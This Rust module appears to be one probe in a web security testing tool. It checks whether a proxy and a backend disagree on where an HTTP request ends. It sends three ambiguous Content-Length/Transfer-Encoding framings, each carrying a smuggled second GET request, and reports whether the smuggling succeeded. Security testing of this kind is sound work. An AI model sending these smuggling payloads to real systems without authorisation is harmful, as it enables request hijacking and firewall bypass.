//! A request that two servers read as different requests.

use super::Probing;
use crate::client::ClientError;
use crate::report::Outcome;

attack!("waf-smuggling", Firewall, Gate, "Do the proxy and the server agree where my request ends?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let path = p.surface.endpoints.first().map_or("/", |e| e.path.as_str());
    let mut last = None;
    for framing in [
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Transfer-Encoding: identity, chunked",
    ] {
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: {}\r\nUser-Agent: probe\r\n{framing}\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\nUser-Agent: probe\r\n\r\n",
            p.client.authority()
        );
        let (answer, exchange) = p.client.send_raw(request.as_bytes()).await?;
        // Two answers: what stands after the body was taken for a second request.
        let answers = answer.matches("HTTP/1.1 ").count();
        if answers >= 2 {
            return Ok(Outcome::exploited("an ambiguous request is taken, and what follows is a second one", vec![exchange]));
        }
        last = Some(exchange);
    }
    Ok(Outcome::blocked("ambiguous framing is refused and the connection closed", last.into_iter().collect()))
}
